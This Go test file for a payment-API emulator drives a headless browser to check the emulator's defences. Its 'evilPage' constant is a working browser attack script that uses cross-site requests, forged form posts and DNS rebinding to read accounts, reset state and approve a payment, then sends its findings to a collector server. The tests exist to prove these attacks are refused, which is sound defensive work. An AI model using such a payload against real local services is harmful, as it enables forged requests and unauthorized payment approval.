package emulator

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// browse opens a page in a browser without a window, until the test ends. The channel gets what the browser has printed if it
// ends before, or after a minute. Where no browser is found the test is skipped.
func browse(t *testing.T, page string, flags ...string) <-chan string {
	t.Helper()
	browser := ""
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome"} {
		if path, err := exec.LookPath(name); err == nil {
			browser = path
			break
		}
	}
	if browser == "" {
		t.Skip("no Chromium and no Chrome is installed, so no page can ask the emulator")
	}
	// Not TempDir, as processes of the browser may outlive it for a moment.
	profile, err := os.MkdirTemp("", "browser-*") //nolint:usetesting // see above
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	command := exec.CommandContext(ctx, browser, append(append([]string{
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
		"--remote-debugging-port=0", "--user-data-dir=" + profile,
	}, flags...), page)...)
	var output strings.Builder
	command.Stderr = &output
	ended, text := make(chan struct{}), make(chan string, 1)
	t.Cleanup(func() {
		cancel()
		<-ended
		_ = os.RemoveAll(profile)
	})
	if err := command.Start(); err != nil {
		close(ended)
		t.Skip("the browser does not start: ", err)
	}
	go func() {
		_ = command.Wait()
		text <- output.String()
		close(ended)
	}()
	return text
}

// evilPage asks the control API in all ways that a page has, and tells what it got. It is at the address of the control API
// of an emulator that begins to listen there once the page is loaded, and tries another one that was there before.
const evilPage = `<!doctype html><body><script>
const other = "%[1]s", paying = "%[2]s", tell = "%[3]s";
const got = [];
const note = name => answer => got.push(name + ": " + answer);
const ask = (name, url, init) => fetch(url, init).then(r => r.text()).then(note(name), note(name + " failed"));
const element = (tag, with_) => new Promise(done => {
  const e = Object.assign(document.createElement(tag), with_);
  e.onload = () => done("loaded"); e.onerror = () => done("failed");
  document.body.append(e);
});
const post = (to, enctype, fields) => new Promise(done => {
  const into = Object.assign(document.createElement("iframe"), {name: "into" + Math.random(), onload: () => done("sent")});
  const form = Object.assign(document.createElement("form"), {action: to, method: "post", enctype, target: into.name});
  for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(into, form);
  form.submit();
  setTimeout(() => done("sent"), 2000);
});
const rebound = async () => {
  for (;;) {
    const answer = await fetch("/clock").catch(() => null);
    if (answer && answer.status !== 599) return;
    await new Promise(done => setTimeout(done, 50));
  }
};
(async () => {
  await Promise.all([
    ask("fetch", other + "/accounts"),
    ask("fetch with a body", other + "/accounts", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"}),
    ask("no-cors", other + "/accounts", {mode: "no-cors", credentials: "include"}),
    ask("no-cors text", other + "/accounts", {method: "POST", mode: "no-cors", body: "{}"}),
    ask("no-cors without a body", other + "/chains", {method: "POST", mode: "no-cors"}),
    ask("no-cors without a referrer", other + "/reset", {method: "POST", mode: "no-cors", referrerPolicy: "no-referrer"}),
    ask("a decision", paying, {method: "POST", mode: "no-cors", body: new URLSearchParams({decision: "approve"})}),
    element("img", {src: other + "/accounts"}).then(note("img")),
    element("script", {src: other + "/accounts"}).then(note("script")),
    post(other + "/reset", "text/plain", {}).then(note("form")),
    post(other + "/accounts", "text/plain", {"{\"a\":\"": "\"}"}).then(note("form of text")),
    post(other + "/chains", "application/x-www-form-urlencoded", {a: 1}).then(note("form of fields")),
    post(paying, "application/x-www-form-urlencoded", {decision: "approve"}).then(note("form of a decision")),
    new Promise(done => {
      const socket = new WebSocket(other.replace("http", "ws") + "/accounts");
      socket.onopen = () => done("open"); socket.onerror = () => done("failed");
    }).then(note("websocket")),
  ]);
  note("beacon")(navigator.sendBeacon(other + "/reset", "{}"));
  await rebound();
  await ask("rebound", "/accounts");
  await ask("rebound with a body", "/accounts", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"});
  await ask("rebound without a body", "/chains", {method: "POST"});
  await fetch(tell, {method: "POST", mode: "no-cors", body: JSON.stringify(got)});
})();
</script></body>`

// A page of somebody else, in a real browser, gets nothing from the control API and decides no payment: neither from its own
// origin, nor once its name leads to the emulator.
func TestEvilPageInBrowser(t *testing.T) {
	t.Parallel()
	emu := New(Options{})
	defer emu.Close()
	srv, err := Start(t.Context(), emu, ServerOptions{})
	if err != nil {
		t.Fatal(err)
	}
	status, token := ask(t, emu.Vault(), DefaultPublicKey, "POST", "/tokens",
		`{"card":{"name":"A","number":"4242424242424242","expiration_month":1,"expiration_year":2099}}`)
	if status != http.StatusOK {
		t.Fatal(token)
	}
	_, charge := ask(t, emu.API(), DefaultSecretKey, "POST", "/charges",
		fmt.Sprintf(`{"amount":100000,"currency":"thb","card":%q,"return_uri":"https://shop.example/"}`, token["id"]))
	paying, _ := charge["authorize_uri"].(string)

	told := make(chan []string, 1)
	ear := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		var got []string
		if json.NewDecoder(r.Body).Decode(&got) == nil {
			told <- got
		}
	}))
	defer ear.Close()
	loaded := make(chan struct{}, 1)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Connection", "close")
		if r.URL.Path != "/" {
			w.WriteHeader(599)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, evilPage, srv.ControlURL, paying, ear.URL)
		loaded <- struct{}{}
	}))
	address := evil.Listener.Addr().String()
	_, port, _ := net.SplitHostPort(address)
	ended := browse(t, "http://evil.example:"+port+"/", "--host-resolver-rules=MAP evil.example 127.0.0.1")
	select {
	case <-loaded:
	case output := <-ended:
		t.Fatalf("the browser does not load the page:\n%s", output)
	}
	evil.Close()
	victim := New(Options{})
	defer victim.Close()
	if _, err = Start(t.Context(), victim, ServerOptions{ControlAddr: address}); err != nil {
		t.Fatal(err)
	}
	select {
	case got := <-told:
		all := strings.Join(got, "\n")
		if len(got) != 18 || !strings.Contains(all, `rebound: {"error":"the control API is not served under the name`) {
			t.Errorf("the page did %d things, want 18, and to be refused by its name:\n%s", len(got), all)
		}
		if strings.Contains(all, "key_test_") || strings.Contains(all, "websocket: open") {
			t.Errorf("the page got something:\n%s", all)
		}
	case output := <-ended:
		t.Fatalf("the browser ended or took over a minute, and its page told nothing:\n%s", output)
	}
	for _, e := range []*Emulator{emu, victim} {
		if n := len(e.core.AllAccounts()); n != 1 {
			t.Errorf("the page has made %d accounts", n-1)
		}
	}
	if _, kept := ask(t, emu.API(), DefaultSecretKey, "GET", fmt.Sprint("/charges/", charge["id"]), ""); kept["status"] != "pending" {
		t.Errorf("the page has decided a payment, or dropped it: %v", kept["status"])
	}
}

// driver opens the page of a payer, as its origin allows, and presses a button of it.
const driver = `<!doctype html><script>
const page = window.open("%s");
const wait = setInterval(() => {
  const button = page.document && page.document.querySelector(".approve");
  if (!button) return;
  clearInterval(wait);
  const color = page.getComputedStyle(button).backgroundColor;
  fetch("/told?" + new URLSearchParams({color}), {method: "POST"}).then(() => button.click());
}, 50);
</script>`

// In a real browser the page of a payer has its style, and its own form decides and leads back to the merchant.
func TestPayersPageInBrowser(t *testing.T) {
	t.Parallel()
	told, back := make(chan url.Values, 1), make(chan bool, 1)
	shop := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/done" {
			select {
			case back <- len(r.Header["Referer"]) == 0:
			default:
			}
		}
	}))
	defer shop.Close()
	mux := http.NewServeMux()
	server := httptest.NewServer(mux)
	defer server.Close()
	emu := New(Options{APIURL: server.URL})
	defer emu.Close()
	_, token := ask(t, emu.Vault(), DefaultPublicKey, "POST", "/tokens",
		`{"card":{"name":"A","number":"4242424242424242","expiration_month":1,"expiration_year":2099}}`)
	_, charge := ask(t, emu.API(), DefaultSecretKey, "POST", "/charges",
		fmt.Sprintf(`{"amount":100000,"currency":"thb","card":%q,"return_uri":%q}`, token["id"], shop.URL+"/done"))
	mux.Handle("/", emu.API())
	mux.HandleFunc("/told", func(_ http.ResponseWriter, r *http.Request) { told <- r.URL.Query() })
	mux.HandleFunc("/drive", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, driver, charge["authorize_uri"])
	})
	ended := browse(t, server.URL+"/drive", "--disable-popup-blocking")
	for range 2 {
		select {
		case got := <-told:
			if color := got.Get("color"); color != "rgb(20, 104, 58)" && color != "rgb(31, 122, 72)" { // light and dark
				t.Errorf("the button has the color %s: its style was not taken", color)
			}
		case quiet := <-back:
			if !quiet {
				t.Error("the merchant is told where its payer comes from")
			}
		case output := <-ended:
			t.Fatalf("the browser ended or took over a minute, and its page told nothing:\n%s", output)
		}
	}
	if _, paid := ask(t, emu.API(), DefaultSecretKey, "GET", fmt.Sprint("/charges/", charge["id"]), ""); paid["status"] != "successful" {
		t.Errorf("after the form the charge is %v", paid["status"])
	}
}
